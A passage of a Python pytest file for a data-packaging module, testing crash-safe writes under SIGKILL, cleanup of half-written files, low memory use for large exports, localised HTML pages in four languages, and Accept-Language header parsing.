        ("package.renamed", ["h.holding", "p.package"]),
    ],
)  # fmt: skip
def test_killed_anywhere_there_is_no_half_file(tmp_path: Path, point: str, left: list[str]):
    """kill -9 at each point: a file or none; the half file of a dead writer goes at the next start."""
    killed = subprocess.run(
        [sys.executable, "-c", _PACK, str(tmp_path / "p")], env={**os.environ, "SUBJECTLINE_CRASH_AT": point},
        timeout=60, check=False, capture_output=True, text=True,
    )  # fmt: skip
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    assert [re.sub(r"\w+\.part$", "PART", each) for each in names_in(tmp_path / "p")] == left
    packer = Packer(tmp_path / "p")
    assert names_in(tmp_path / "p") == [name for name in left if not name.endswith("PART")]
    packed(packer, {"server": [table([(1, 2)])]})


def names_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.rglob("*") if path.is_file())


def test_a_living_writer_keeps_its_half_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Another process that starts meanwhile leaves it alone."""
    seen = []

    def meanwhile(point: str) -> None:
        if point == "package.sealed":
            Packer(tmp_path / "p").sweep(())
            seen.extend(names_in(tmp_path / "p"))

    monkeypatch.setattr("bot.package.checkpoint", meanwhile)
    packer = Packer(tmp_path / "p")
    token = packer.pack("p", {}, ABOUT, MADE).token
    assert [name.endswith(".part") for name in seen] == [True]
    packer.open("p", token).close()


def test_large_answers_are_packed_in_little_memory(packer: Packer):
    """A film of 24 MB, and 10 MB of rows: held, packed and downloaded without ever being whole in memory."""
    film = File("film", "Films", "", "", (os.urandom(1 << 20) for _ in range(24)))
    rows = (table([(number, "z" * 10_000) for number in range(start, start + 50)]) for start in range(0, 1000, 50))
    tracemalloc.start()
    held = packer.hold("h", KEY, (each for part in (rows, [film]) for each in part))
    with packer.thawed("h", KEY, held.digest) as sheets:
        made = packer.pack("p", {"server": sheets}, ABOUT, MADE)
    size = sum(len(piece) for piece in packer.open("p", made.token))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert held.rows == 1001
    assert size == made.size > 24 << 20
    assert peak < 14 << 20, f"{peak >> 20} MB"


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_page_is_in_the_persons_language(packer: Packer, language: str) -> None:
    """Ours and the company's words; what is held of the person stays exactly as it is."""
    about = {**ABOUT, "language": language, "glossary": {"our internal server": "Haus", "Haus und Hof": "Xanadu"}}
    files = opened(packer, {"server": [table([("Haus und Hof", 1)])], "zoho": []}, about)
    page, words = unescape(files["START-HERE.html"].decode()), spoken(language)
    assert f'<html lang="{language}">' in page
    for word in ("overview", "folder", "wrong", "rights", "quiet"):
        assert words.data[word] in page
    assert words.day(dt.date(2026, 11, 20)) in page
    assert "<td>Haus</td>" in page
    assert "Haus und Hof" in page
    assert "Xanadu" not in page


def test_pages_have_the_same_words_in_every_language() -> None:
    """A language is a file; the values a sentence holds are the same in all of them."""
    assert set(LANGUAGES) == {"de", "en", "fr", "it"}
    english = spoken("en")
    for each in map(spoken, LANGUAGES):
        for one, other in ((english.link, each.link), (english.data, each.data)):
            assert one.keys() == other.keys()
            for name, text in one.items():
                assert type(text) is type(other[name])
                assert sorted(re.findall(r"{\w+}", str(text))) == sorted(re.findall(r"{\w+}", str(other[name]))), name


@pytest.mark.parametrize(
    ("header", "language"),
    [
        ("", "en"), ("de-CH,de;q=0.9,en;q=0.8", "de"), ("rm, it;q=0.5, fr;q=0.7", "fr"), ("*", "en"),
        ("en;q=0, fr;q=0.1", "fr"), ("de;q=2", "en"), ("," * 10_000, "en"),
    ],
)  # fmt: skip
def test_the_language_a_browser_asks_for(header: str, language: str) -> None:
    """The best liked of ours; English where it likes none or says nothing sensible."""
    assert accepted(header) == language
